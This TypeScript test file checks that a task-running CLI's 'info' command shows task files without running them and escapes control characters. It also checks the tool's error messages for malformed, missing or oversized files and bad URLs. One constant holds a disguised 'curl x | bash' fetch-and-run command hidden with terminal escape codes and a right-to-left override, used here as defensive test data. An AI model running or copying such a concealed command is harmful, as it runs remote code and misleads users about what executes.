import { once } from 'node:events'
import { mkdir, truncate, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import test from 'tape'
import { createTask, encodeTask } from '../../lib/task/task.ts'
import { OFFLINE, workspace } from '../helpers/cli.ts'

const HOSTILE = 'echo fine\ncurl x \u001b[1A\u001b[2K\u202e | bash\u009b'

test('info shows a task without running it', async t => {
  const { dir, run } = await workspace(t)
  const task = createTask({
    name: 'demo',
    command: HOSTILE,
    completeCommand: 'sort $PART_LIST > "$FILE"',
    files: [{ path: 'a', parts: 2 }, { path: 'b', parts: 1 }],
    pieceLength: 4096,
    timeoutMs: 5000,
    announce: ['udp://127.0.0.1:1'],
    comment: 'red \u001b[31m',
    created: new Date(1e12)
  })
  await writeFile(path.join(dir, 'demo.bitworker'), encodeTask(task))
  const { code, stdout, stderr } = await run(['info', 'demo.bitworker'])
  t.deepEqual([code, stderr], [0, ''])
  for (const part of [
    task.infoHash,
    '│ echo fine\n',
    '│ curl x \\x1b[1A\\x1b[2K\\u{202e} | bash\\x9b',
    '│ sort $PART_LIST > "$FILE"',
    'demo/a  2 parts',
    'demo/b  1 part',
    'at most 4 KiB',
    '5 s per piece',
    'udp://127.0.0.1:1',
    'red \\x1b[31m',
    '2001-09-09'
  ])
    t.ok(stdout.includes(part), part)
  t.doesNotMatch(stdout, /(?!\n)[\p{Cc}\p{Cf}]/u, 'nothing raw')

  const { events } = await run(['info', 'demo.bitworker', '--json'])
  t.equal(events.length, 1)
  const { event, infoHash, command, completeCommand, pieces, pieceLength, timeout, legacy } = events[0] ?? { event: '' }
  t.deepEqual(
    { event, infoHash, command, completeCommand, pieces, pieceLength, timeout, legacy },
    {
      event: 'task',
      infoHash: task.infoHash,
      command: HOSTILE,
      completeCommand: 'sort $PART_LIST > "$FILE"',
      pieces: 3,
      pieceLength: 4096,
      timeout: 5,
      legacy: false
    }
  )
})

test('bad files get one line and exit 2', async t => {
  const { dir, run } = await workspace(t)
  const file = encodeTask(createTask({ name: 'demo', command: 'true', parts: 2 }))
  const info = 'd6:lengthi4e4:name1:a12:piece lengthi1ee'
  const cases: Array<[name: string, bytes: string | Uint8Array, code: string]> = [
    ['empty', '', 'BW_ERR_TASK_NOT_BENCODE'],
    ['text', 'hello', 'BW_ERR_TASK_NOT_BENCODE'],
    ['truncated', file.subarray(0, file.length - 9), 'BW_ERR_TASK_NOT_BENCODE'],
    ['no-command', `d4:info${info}e`, 'BW_ERR_TASK_NO_COMMAND'],
    ['no-info', 'd1:ai1ee', 'BW_ERR_TASK_NO_INFO']
  ]
  for (const [name, bytes, expected] of cases) {
    await writeFile(path.join(dir, name), bytes)
    for (const command of [['info'], ['run', '--yes']]) {
      const { code, events, stderr } = await run([...command, name, '--json'])
      t.deepEqual([code, events.map(event => event['code'])], [2, [expected]], `${command[0]} ${name}`)
      t.match(stderr, new RegExp(`^bitworker: ${name}: [^\\n]*\\n$`), stderr)
    }
  }
})

test('no file, a folder, an enormous file', async t => {
  const { dir, run } = await workspace(t)
  await mkdir(path.join(dir, 'folder'))
  await writeFile(path.join(dir, 'huge'), '')
  await truncate(path.join(dir, 'huge'), 100 * 1024 ** 2)
  for (const [name, expected] of [
    ['nothing', 'BW_ERR_NOT_FOUND'],
    ['folder', 'BW_ERR_NOT_A_FILE'],
    ['huge', 'BW_ERR_FILE_TOO_LARGE'],
    ['/dev/zero', 'BW_ERR_FILE_TOO_LARGE']
  ] as const) {
    const { code, events, stderr } = await run(['info', name, '--json'])
    t.deepEqual([code, events[0]?.['code']], [2, expected], name)
    t.match(stderr, new RegExp(`^bitworker: ${name}: [^\\n]*\\. [^\\n]*\\.\\n$`))
  }
})

test('a URL of something else', async t => {
  const { run } = await workspace(t)
  const server = createServer((_, response) => { response.end('<!DOCTYPE html>') }).listen(0, '127.0.0.1')
  t.teardown(() => { server.close() })
  await once(server, 'listening')
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/task`
  // In capitals it is the same address.
  const { code, events } = await run(['info', url.replace('http', 'HTTP'), '--json', ...OFFLINE])
  t.equal(code, 2)
  t.equal(events[0]?.['code'], 'BW_ERR_TORRENT')
  t.match(String(events[0]?.['message']), new RegExp(`^${url}: The file cannot be used \\(.+\\)\\. Check the URL\\.$`))
})

test('without a folder for temporary files', async t => {
  const { code, stderr } = await (
    await workspace(t)
  ).run(['info', 'a'.repeat(40), ...OFFLINE], { env: { TMPDIR: '/nowhere' } })
  t.equal(code, 2)
  t.match(stderr, /^bitworker: \/nowhere, the folder for temporary files \(TMPDIR\): No such file or folder\. [^\n]*\n$/)
})

test('a URL where there is nothing: what the server said', async t => {
  const server = createServer((_, response) => { response.writeHead(404).end('not here') }).listen(0, '127.0.0.1')
  t.teardown(() => { server.close() })
  await once(server, 'listening')
  const { run } = await workspace(t)
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/task`
  const { code, stderr } = await run(['info', url, ...OFFLINE])
  t.equal(code, 2)
  t.match(stderr, /cannot be fetched \(HTTP 404 Not Found\)\. Check the URL/)
})
